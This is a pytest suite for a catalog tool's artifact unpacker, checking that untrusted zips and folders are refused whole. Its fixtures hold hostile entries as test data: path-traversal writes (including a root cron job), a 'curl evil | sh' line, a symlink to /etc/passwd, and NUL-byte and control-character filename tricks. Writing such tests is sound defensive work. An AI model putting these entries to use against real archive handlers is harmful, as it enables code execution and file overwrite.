"""The artifact hand-off between the validate workflows: untrusted files refused as a whole."""

from __future__ import annotations

import os
import zipfile
from pathlib import Path

import pytest
from image_catalog.catalog.handoff import HandoffRefused, Limits, unpack
from image_catalog.cli import main
from support.catalogs import empty_catalog
from support.zips import encrypted_zip, make_zip, renamed_zip

ENTRY = "apiVersion: x\nkind: CatalogImage\n"


def tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in root.rglob("*") if p.is_file()}


@pytest.fixture
def catalog(tmp_path: Path) -> Path:
    return empty_catalog(tmp_path / "checkout" / "catalog", {"quay": "kind: Registry\n"})


def test_a_pull_requests_files_are_copied_over_the_catalog(tmp_path: Path, catalog: Path) -> None:
    artifact = make_zip(
        tmp_path / "changes.zip",
        {
            "catalog/images/demo/1.0.yaml": ENTRY.encode(),
            "catalog/registries/quay.yaml": b"kind: Registry\nchanged: true\n",
        },
    )
    assert unpack(artifact, catalog) == ["images/demo/1.0.yaml", "registries/quay.yaml"]
    assert (catalog / "images/demo/1.0.yaml").read_text() == ENTRY
    assert (catalog / "registries/quay.yaml").read_text().endswith("changed: true\n")

    folder = tmp_path / "downloaded"
    (folder / "catalog/images/demo").mkdir(parents=True)
    (folder / "catalog/images/demo/1.1.yaml").write_text(ENTRY)
    assert main(["handoff", "unpack", str(folder), "--catalog", str(catalog)]) == 0
    assert (catalog / "images/demo/1.1.yaml").read_text() == ENTRY


HOSTILE_ZIPS = {
    "absolute": {"/etc/cron.d/x": b"* * * * * root sh\n"},
    "parent": {"catalog/../tool/image_catalog/__init__.py": b"import os\n"},
    "leading parent": {"../catalog/images/a/1.yaml": b""},
    "outside catalog": {"tool/setup.sh": b"curl evil | sh\n"},
    "backslash": {"catalog\\images\\a\\1.yaml": b""},
    "hidden": {"catalog/images/a/.1.yaml": b""},
    "not yaml": {"catalog/images/a/run.sh": b"#!/bin/sh\n"},
    "too deep": {"catalog/images/a/b/1.yaml": b""},
    "oversize": {"catalog/images/a/1.yaml": b"x" * 2048},
    "too many": {f"catalog/images/a/{n}.yaml": b"" for n in range(5)},
    "too much": {f"catalog/images/a/{n}.yaml": b"x" * 1000 for n in range(4)},
}


@pytest.mark.parametrize("case", sorted(HOSTILE_ZIPS))
def test_hostile_zip_is_refused_whole(tmp_path: Path, catalog: Path, case: str) -> None:
    entries = {"catalog/images/ok/1.0.yaml": ENTRY.encode(), **HOSTILE_ZIPS[case]}
    artifact = make_zip(tmp_path / "changes.zip", entries)
    before = tree(tmp_path)
    with pytest.raises(HandoffRefused):
        unpack(artifact, catalog, Limits(files=4, file_bytes=1024, total_bytes=3000))
    assert tree(tmp_path) == before  # not even the good entry was copied


def test_symlink_and_duplicate_in_a_zip_are_refused(tmp_path: Path, catalog: Path) -> None:
    linked = make_zip(tmp_path / "link.zip", {}, links=("catalog/images/a/1.yaml",))
    with pytest.raises(HandoffRefused, match="a symlink"):
        unpack(linked, catalog)
    with zipfile.ZipFile(tmp_path / "twice.zip", "w") as archive:
        archive.writestr("catalog/images/a/1.yaml", "one")
        with pytest.warns(UserWarning, match="Duplicate name"):
            archive.writestr("catalog/images/a/1.yaml", "two")
    with pytest.raises(HandoffRefused, match="appears twice"):
        unpack(tmp_path / "twice.zip", catalog)
    (tmp_path / "garbage.zip").write_bytes(b"PK not really")
    with pytest.raises(HandoffRefused, match="not a zip archive"):
        unpack(tmp_path / "garbage.zip", catalog)


def test_hostile_folder_entries_are_refused(
    tmp_path: Path, catalog: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = tree(catalog)
    folder = tmp_path / "artifact"
    images = folder / "catalog/images/a"
    images.mkdir(parents=True)
    (images / "1.0.yaml").symlink_to("/etc/passwd")
    args = ["handoff", "unpack", str(folder), "--catalog", str(catalog)]
    assert main(args) == 1
    assert "a symlink; only plain files" in capsys.readouterr().err
    (images / "1.0.yaml").unlink()
    (folder / "catalog/images/b").symlink_to(tmp_path)
    assert main(args) == 1
    (folder / "catalog/images/b").unlink()
    os.mkfifo(images / "1.0.yaml")
    assert main(args) == 1
    assert "a FIFO" in capsys.readouterr().err
    (images / "1.0.yaml").unlink()
    (folder / "README.md").write_text("hi")
    assert main(args) == 1
    assert "outside catalog/" in capsys.readouterr().err
    (folder / "README.md").unlink()
    (folder / "catalog").rename(tmp_path / "real")
    (folder / "catalog").symlink_to(tmp_path / "real")
    assert main(args) == 1
    assert "a symlink" in capsys.readouterr().err
    assert tree(catalog) == before  # the checkout is untouched


def test_a_symlink_in_the_checkout_is_not_followed(tmp_path: Path, catalog: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (catalog / "images/a").symlink_to(outside)
    artifact = make_zip(tmp_path / "changes.zip", {"catalog/images/a/1.0.yaml": b"x"})
    with pytest.raises(HandoffRefused, match="a symlink in the catalog checkout"):
        unpack(artifact, catalog)
    assert list(outside.iterdir()) == []


def test_an_encrypted_entry_is_refused(tmp_path: Path, catalog: Path) -> None:
    artifact = encrypted_zip(tmp_path / "locked.zip", "catalog/images/a/1.0.yaml", ENTRY.encode())
    before = tree(catalog)
    with pytest.raises(HandoffRefused) as refused:
        unpack(artifact, catalog)
    assert str(refused.value) == "'catalog/images/a/1.0.yaml': encrypted; only plain files"
    assert tree(catalog) == before


# The placeholder's name bytes, the raw bytes put in their place, the message.
MISREAD_NAMES = {
    "NUL": (
        "catalog/images/a/1.0.yamlXsh",
        b"catalog/images/a/1.0.yaml\0sh",
        "'catalog/images/a/1.0.yaml\\x00sh': a NUL byte in the name (a zip reader cuts the name "
        "there)",
    ),
    "not UTF-8": (
        "catalog/images/a/1.\u00e9.yaml",
        b"catalog/images/a/1.\xff\xfe.yaml",
        "{artifact}: 'catalog/images/a/1.\\xff\\xfe.yaml': the name is flagged as UTF-8 but is not",
    ),
    "cp437 escape": (
        "catalog/images/a/1X.yaml",
        b"catalog/images/a/1\x1b.yaml",
        "'catalog/images/a/1\\x1b.yaml': a control or invisible character in the name",
    ),
    "cp437 DEL": (
        "catalog/images/X/1.yaml",
        b"catalog/images/\x7f/1.yaml",
        "'catalog/images/\\x7f/1.yaml': a control or invisible character in the name",
    ),
}


@pytest.mark.parametrize("case", sorted(MISREAD_NAMES))
def test_a_name_zipfile_would_misread_is_refused(tmp_path: Path, catalog: Path, case: str) -> None:
    placeholder, raw, message = MISREAD_NAMES[case]
    artifact = renamed_zip(tmp_path / "changes.zip", placeholder, raw)
    before = tree(catalog)
    with pytest.raises(HandoffRefused) as refused:
        unpack(artifact, catalog)
    assert str(refused.value) == message.format(artifact=artifact)
    assert tree(catalog) == before


THREE = {f"catalog/images/a/1.{n}.yaml": ENTRY.encode() for n in range(3)}


def test_every_destination_is_checked_before_the_first_write(tmp_path: Path, catalog: Path) -> None:
    artifact = make_zip(tmp_path / "changes.zip", THREE)
    outside = tmp_path / "outside.yaml"
    outside.write_text("mine\n")
    (catalog / "images/a").mkdir(parents=True)
    (catalog / "images/a/1.1.yaml").symlink_to(outside)
    with pytest.raises(HandoffRefused) as refused:
        unpack(artifact, catalog)
    assert str(refused.value) == (f"{catalog}/images/a/1.1.yaml: a symlink in the catalog checkout")
    assert sorted(p.name for p in (catalog / "images/a").iterdir()) == ["1.1.yaml"]
    assert outside.read_text() == "mine\n"


def test_a_destination_that_is_not_a_plain_file_is_refused(tmp_path: Path, catalog: Path) -> None:
    artifact = make_zip(tmp_path / "changes.zip", THREE)
    (catalog / "images/a/1.1.yaml").mkdir(parents=True)
    with pytest.raises(HandoffRefused) as refused:
        unpack(artifact, catalog)
    assert str(refused.value) == (
        f"{catalog}/images/a/1.1.yaml: a folder in the catalog checkout; only a plain file is "
        "replaced"
    )
    (catalog / "images/a/1.1.yaml").rmdir()
    os.mkfifo(catalog / "images/a/1.2.yaml")
    with pytest.raises(HandoffRefused, match="a FIFO in the catalog checkout"):
        unpack(artifact, catalog)
    (catalog / "images/a/1.2.yaml").unlink()
    (catalog / "images/a").rmdir()
    (catalog / "images/a").write_text("a file where a folder goes\n")
    with pytest.raises(HandoffRefused) as refused:
        unpack(artifact, catalog)
    assert str(refused.value) == f"{catalog}/images/a: a file in the catalog checkout, not a folder"
    assert sorted(p.name for p in (catalog / "images").iterdir()) == ["a"]
